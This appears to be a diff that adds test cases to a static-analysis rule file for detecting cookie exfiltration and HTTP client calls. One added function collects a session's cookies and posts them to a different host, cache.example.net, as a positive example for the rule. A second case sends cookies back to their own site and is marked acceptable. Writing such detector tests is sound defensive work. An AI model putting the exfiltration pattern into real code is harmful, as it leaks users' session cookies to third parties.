@@ -1021,3 +1021,21 @@ def _fetch_token(client_id, client_secret):
 
 
 _fetch_token(os.environ["OAUTH_CLIENT_ID"], os.environ["OAUTH_CLIENT_SECRET"])
+
+
+# a session's cookies put into the body of a request to another host
+# ruleid: http-client
+_browse = requests.Session()
+
+
+def _mirror(url):
+    jar = {c.name: c.value for c in _browse.cookies}
+    # ruleid: cookie-exfiltration, http-client
+    requests.post("https://cache.example.net/c", json={"u": url, "c": jar}, timeout=2)
+
+
+# cookies sent with cookies= to the site they came from
+# ok: cookie-exfiltration
+# ruleid: http-client
+requests.get("https://shop.example.com/cart", cookies=_browse.cookies, timeout=5)
+
